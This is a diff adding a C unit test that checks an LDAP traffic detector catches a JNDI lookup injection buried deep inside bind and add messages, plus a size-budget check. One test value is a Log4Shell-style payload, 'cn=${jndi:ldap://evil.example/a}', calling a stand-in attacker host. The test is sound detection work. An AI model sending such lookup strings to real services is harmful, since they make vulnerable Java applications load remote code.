@@ -515,6 +515,45 @@ START_TEST(a_look_up_sent_from_outside_in_a_name_is_found)
 }
 END_TEST
 
+// Whatever of a message the record shows: a name is longer than that, values and passwords are not shown at all.
+START_TEST(a_look_up_sent_from_outside_anywhere_in_a_message_is_found)
+{
+	static const struct proto_flow inward = {
+		.direction = DIRECTION_IN, .transport = 6, .client_port = 40000, .server_port = 389};
+	static const uint8_t tags[] = {0x60, 0x68, 0x1f}; // bind, add, nothing known
+	struct line line = {true, {NULL, 0}};
+	struct talk talk = {.ops = &proto_ldap, .flow = inward, .lines = &line, .count = 1};
+	static struct maker op, name;
+
+	for (size_t i = 0; i < sizeof(tags); i++) {
+		start();
+		op.n = name.n = 0;
+		for (unsigned n = 0; n < 300; n++)
+			make_text(&name, "cn=padding,");
+		make_text(&name, "cn=${jndi:ldap://evil.example/a}");
+		if (tags[i] == 0x60)
+			MAKE(&op, 0x02, 1, 3);
+		tlv(&op, 0x04, made(&name), 0);
+		text_attribute(&op, "cn", "x");
+		message(&m, 1, tags[i], made(&op), 0);
+		line.said = made(&m);
+		talk_check(&talk, &caught);
+		ck_assert_uint_ge(caught.count, 1);
+		ck_assert_uint_eq(caught.o[caught.count - 1].kind, OBS_JNDI);
+		ck_assert(!caught.marked[COUNT_PROTO_BUDGET]);
+	}
+	start();
+	while (name.n < 9000)
+		make_text(&name, ",cn=padding");
+	tlv(&m, 0x04, made(&name), 0);
+	op.n = 0;
+	message(&op, 1, 0x68, made(&m), 0);
+	line.said = made(&op);
+	talk_check(&talk, &caught);
+	ck_assert(caught.marked[COUNT_PROTO_BUDGET]);
+}
+END_TEST
+
 int main(void)
 {
 	Suite *suite = suite_create("ldap");
@@ -546,5 +585,6 @@ int main(void)
 	add_lies_tests(t);
 	tcase_add_test(t, look_alikes_are_not_recognised);
 	tcase_add_test(t, a_look_up_sent_from_outside_in_a_name_is_found);
+	tcase_add_test(t, a_look_up_sent_from_outside_anywhere_in_a_message_is_found);
 	return talk_run(suite);
 }
